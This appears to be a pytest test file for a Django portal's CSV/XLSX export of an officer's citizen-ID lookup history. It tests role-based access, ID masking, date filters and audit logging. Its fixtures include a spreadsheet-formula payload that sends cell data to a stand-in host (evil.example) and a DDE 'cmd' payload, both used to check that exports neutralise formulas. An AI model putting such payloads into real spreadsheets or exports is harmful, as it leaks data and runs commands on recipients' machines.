"""Exporting an officer's lookup history as CSV and XLSX: who may (it_admin, inspector, a leader in
scope, the officer themself; others 404/403, also by guessed ids), what a file holds (only masked
citizen IDs, no formula a spreadsheet would run), dates, and the export recorded as a security event."""
import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from audit.choices import EventKind
from audit.models import SecurityEvent
from lookups.choices import Decision
from lookups.exports import cell_guarded
from lookups.models import LookupRecord
from lookups.services import citizen_id_hash
from lookups.validation import citizen_id_masked
from portal.exports import HEADING_ROWS
from tests.helpers import login, xlsx_table

VN = ZoneInfo("Asia/Ho_Chi_Minh")
CITIZEN = "075095001234"
HOSTILE_PURPOSE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _record(officer, *, at, purpose="Cấp bản sao trích lục khai sinh", decision=Decision.ALLOW, reason="",
            dossier="000.00.31.H19-210708-0032"):
    return LookupRecord.objects.create(
        decided_at=at, officer=officer, officer_username=officer.username, unit_id_then=officer.unit_id,
        unit_code_then=officer.unit.code, dossier_code=dossier, purpose=purpose, decision=decision, reason=reason,
        citizen_id_hash=citizen_id_hash(CITIZEN), citizen_id_masked=citizen_id_masked(CITIZEN),
        ip_address="10.20.30.40")


@pytest.fixture
def history(officer_bien_hoa):
    return [
        _record(officer_bien_hoa, at=datetime(2026, 11, 30, 9, 15, tzinfo=VN)),
        _record(officer_bien_hoa, at=datetime(2026, 12, 1, 10, 0, tzinfo=VN), purpose=HOSTILE_PURPOSE,
                decision=Decision.REFUSE, reason="dossier_malformed", dossier="@SUM(1+1)*cmd|' /C calc'!A0"),
        _record(officer_bien_hoa, at=datetime(2026, 12, 2, 14, 30, tzinfo=VN), purpose="-2+3"),
    ]


def _url(officer, file_format="csv"):
    return reverse("lookups:history_export", args=[officer.pk, file_format])


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_it_exports_the_history_as_csv_oldest_first_in_vietnamese(client, inspector, officer_bien_hoa, history):
    response = login(client, inspector).get(_url(officer_bien_hoa))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="lich-su-tra-cuu-cb.tanphong-')
    rows = _csv(response)
    assert rows[0] == ["Thời gian", "Tên đăng nhập của cán bộ", "Mã định danh đơn vị", "Số định danh cá nhân",
                       "Mã hồ sơ", "Mục đích", "Kết luận", "Lý do", "Kênh tra cứu", "Địa chỉ IP", "Số lượt tra cứu"]
    assert rows[1] == ["30/11/2026 09:15:00", "cb.tanphong", "000.01.31.H19", "075*******34",
                       "000.00.31.H19-210708-0032", "Cấp bản sao trích lục khai sinh", "Cho phép", "",
                       "Trang của Cổng", "10.20.30.40", str(history[0].pk)]
    assert len(rows) == 4


def test_no_cell_of_the_csv_is_a_formula_and_no_citizen_id_is_in_clear(client, inspector, officer_bien_hoa, history):
    response = login(client, inspector).get(_url(officer_bien_hoa))
    rows = _csv(response)
    refused, dashed = rows[2], rows[3]
    assert refused[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert refused[5] == "'" + HOSTILE_PURPOSE
    assert refused[7] == "Mã hồ sơ không hợp lệ"
    assert dashed[5] == "'-2+3"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
        assert CITIZEN not in ",".join(row)


def test_it_exports_the_history_as_xlsx_with_real_dates_and_no_formula(client, it_admin, officer_bien_hoa, history):
    response = login(client, it_admin).get(_url(officer_bien_hoa, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet, rows = xlsx_table(response.content)
    assert rows[0][:4] == ("Thời gian", "Tên đăng nhập của cán bộ", "Mã định danh đơn vị", "Số định danh cá nhân")
    assert rows[1][0] == datetime(2026, 11, 30, 9, 15)
    assert sheet.cell(row=HEADING_ROWS + 2, column=1).number_format == "dd/mm/yyyy hh:mm:ss"
    assert rows[2][5] == "'" + HOSTILE_PURPOSE
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(CITIZEN not in str(value) for row in rows for value in row)


def test_it_exports_only_the_days_asked_for(client, inspector, officer_bien_hoa, history):
    response = login(client, inspector).get(_url(officer_bien_hoa), {"date_from": "01/12/2026",
                                                                      "date_to": "01/12/2026"})
    rows = _csv(response)
    assert [row[0] for row in rows[1:]] == ["01/12/2026 10:00:00"]


def test_the_export_is_recorded_as_a_security_event(client, inspector, officer_bien_hoa, history):
    login(client, inspector).get(_url(officer_bien_hoa, "xlsx"), {"date_from": "01/12/2026"})
    event = SecurityEvent.objects.get(kind=EventKind.LOOKUP_HISTORY_EXPORTED)
    assert (event.actor_id, event.target_id, event.details) == (
        inspector.pk, officer_bien_hoa.pk, {"format": "xlsx", "rows": 2, "date_from": "2026-12-01", "date_to": ""})


def test_a_leader_exports_an_officer_of_their_subtree(client, leader_bien_hoa, officer_bien_hoa, history):
    response = login(client, leader_bien_hoa).get(_url(officer_bien_hoa))
    assert len(_csv(response)) == 4


def test_a_leader_gets_only_the_lookups_made_in_their_subtree(client, units, leader_bien_hoa, officer_bien_hoa,
                                                             history):
    # The officer worked in Long Khánh before: those lookups are not the Biên Hòa leader's to read.
    LookupRecord.objects.create(
        decided_at=datetime(2026, 11, 1, 9, 0, tzinfo=VN), officer=officer_bien_hoa,
        officer_username=officer_bien_hoa.username, unit_id_then=units["xuan_an"].pk, unit_code_then="000.01.32.H19",
        dossier_code="000.00.32.H19-211101-0001", purpose="Thử", decision=Decision.ALLOW)
    assert len(_csv(login(client, leader_bien_hoa).get(_url(officer_bien_hoa)))) == 4


def test_a_leader_gets_404_for_an_officer_outside_their_subtree(client, leader_bien_hoa, officer_long_khanh):
    _record(officer_long_khanh, at=datetime(2026, 12, 1, 10, 0, tzinfo=VN))
    response = login(client, leader_bien_hoa).get(_url(officer_long_khanh))
    assert response.status_code == 404
    assert SecurityEvent.objects.filter(kind=EventKind.LOOKUP_HISTORY_EXPORTED).count() == 0


def test_an_officer_exports_their_own_history_and_no_one_elses(client, officer_bien_hoa, officer_long_khanh,
                                                              history):
    login(client, officer_bien_hoa)
    assert len(_csv(client.get(_url(officer_bien_hoa)))) == 4
    assert client.get(_url(officer_long_khanh)).status_code == 404
    assert client.get(reverse("lookups:history_export", args=[999999, "csv"])).status_code == 404


def test_anonymous_readers_are_sent_to_sign_in(client, officer_bien_hoa):
    response = client.get(_url(officer_bien_hoa))
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_an_unknown_format_is_not_found(client, inspector, officer_bien_hoa):
    response = login(client, inspector).get(f"/lookups/history/{officer_bien_hoa.pk}/export.ods")
    assert response.status_code == 404


def test_bad_dates_export_nothing_and_say_why_in_vietnamese(client, inspector, officer_bien_hoa, history):
    response = login(client, inspector).get(_url(officer_bien_hoa), {"date_from": "31/02/2026"}, follow=True)
    assert response.redirect_chain[-1][0] == reverse("accounts:detail", args=[officer_bien_hoa.pk])
    assert [str(message) for message in response.context["messages"]] == ["Nhập một ngày hợp lệ."]
    assert SecurityEvent.objects.filter(kind=EventKind.LOOKUP_HISTORY_EXPORTED).count() == 0


@pytest.mark.parametrize(("value", "guarded"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("1-1", "1-1"), ("", ""), ("Nguyễn", "Nguyễn"),
])
def test_a_cell_that_a_spreadsheet_would_evaluate_is_quoted(value, guarded):
    assert cell_guarded(value) == guarded


def test_the_officers_lookup_page_and_account_page_offer_the_export(client, it_admin, officer_bien_hoa):
    page = login(client, officer_bien_hoa).get(reverse("lookups:lookup")).content.decode()
    assert _url(officer_bien_hoa) in page and _url(officer_bien_hoa, "xlsx") in page
    client.logout()
    account = login(client, it_admin).get(reverse("accounts:detail", args=[officer_bien_hoa.pk])).content.decode()
    assert _url(officer_bien_hoa) in account
